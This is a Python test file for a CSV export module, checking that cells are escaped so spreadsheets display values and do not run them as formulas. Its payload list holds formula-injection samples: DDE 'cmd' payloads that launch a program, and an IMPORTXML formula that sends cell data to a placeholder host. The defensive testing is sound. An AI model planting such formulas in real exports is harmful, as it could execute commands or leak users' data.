"""Claims about CSV export: a spreadsheet shows it and never runs it."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from postroom.audience import rows, write
from postroom.audience.export import guarded, unguarded

PAYLOADS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x","y")',
    "＝1", "＋1", "－1", "＠x", " =1", "'=1", "''=1", "' =1", "=", "-", "+", "@", "@@", "=\n",
    "-2+3+cmd|' /C calc'!D2",
    '=IMPORTXML(CONCAT("http://x?v=",A1),"//a")', "+441234567", "\u00a0=1", "\x0b=1", " \t@x", '="a""b"',
]  # fmt: skip
STARTS = re.compile(r"\s*[=+\-@＝＋－＠]|[\t\r\n]")


def exported(*people, **options):
    stream = io.StringIO(newline="")
    assert write(people, stream, **options) == len(people)
    return list(csv.reader(io.StringIO(stream.getvalue(), newline="")))


def test_the_first_row_names_the_columns():
    table = exported(
        {"email": "a@example.org", "city": "Bern"}, {"city": "Genève, GE", "email": "b@example.org"}
    )
    assert table == [["email", "city"], ["a@example.org", "Bern"], ["b@example.org", "Genève, GE"]]


def test_a_header_may_be_given_and_stands_there_without_rows():
    assert exported(fields=["email", "=1"]) == [["email", "'=1"]]
    assert exported({"city": "Bern", "email": "a@example.org"}, fields=["email", "name"]) == [
        ["email", "name"],
        ["a@example.org", ""],
    ]
    assert exported() == []


def test_missing_cells_are_empty_and_surplus_ones_left_out():
    assert exported({"email": "a@example.org", "x": "1"}, {"email": "b@example.org", "y": "2"})[2] == [
        "b@example.org",
        "",
    ]


def test_nobody_is_an_empty_file():
    assert exported() == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_starts_as_a_formula(payload):
    for cell in exported({payload: payload}, {payload: "fine"})[1]:
        assert not STARTS.match(cell)
    assert exported({"email": payload}, raw=True)[1] == [payload]


@given(st.text())
def test_reading_takes_off_what_writing_put_on(text):
    assert unguarded(guarded(text)) == text
    assert not STARTS.match(guarded(text))


def test_what_was_exported_can_be_imported(tmp_path):
    people = [{"email": "+ada@example.org", "name": "=Ada"}, {"email": "bo@example.org", "name": "'Bo"}]
    path = tmp_path / "export.csv"
    with path.open("w", encoding="utf-8", newline="") as stream:
        write(people, stream)
    assert [(row.address, row.name) for row in rows(path, "export.csv")] == [
        ("+ada@example.org", "=Ada"),
        ("bo@example.org", "'Bo"),
    ]
